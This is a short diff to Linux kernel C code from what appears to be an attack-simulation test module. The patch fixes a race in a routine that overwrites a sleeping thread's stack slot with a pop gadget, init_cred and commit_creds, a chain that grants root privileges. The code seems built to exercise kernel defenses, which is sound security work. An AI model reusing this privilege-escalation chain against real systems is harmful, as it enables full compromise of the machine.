@@ -347,11 +347,13 @@ static int attack_to_user(int argc, char **argv, u64 *result)
 /* a thread that sleeps */
 
 static u64 *sleeper_slot;
+static struct task_struct *sleeper;
 static DECLARE_COMPLETION(sleeper_wakes);
 
 void sci_attack_sleeper(u64 *slot)
 {
-	WRITE_ONCE(sleeper_slot, slot);
+	sleeper = current;
+	smp_store_release(&sleeper_slot, slot);
 	wait_for_completion(&sleeper_wakes);
 }
 
@@ -363,10 +365,12 @@ static int attack_sleep(int argc, char **argv, u64 *result)
 
 static int attack_smash_sleeper(int argc, char **argv, u64 *result)
 {
-	u64 *slot = xchg(&sleeper_slot, NULL);
+	u64 *slot = smp_load_acquire(&sleeper_slot);
 
-	if (!slot)
+	/* On its way there, it may meet code that is new to its view. */
+	if (!slot || READ_ONCE(sleeper->on_rq) || READ_ONCE(sleeper->on_cpu))
 		return -EAGAIN;
+	WRITE_ONCE(sleeper_slot, NULL);
 	slot[0] = (u64)sci_attack_pop_arg;
 	slot[1] = known.init_cred;
 	slot[2] = known.commit_creds;
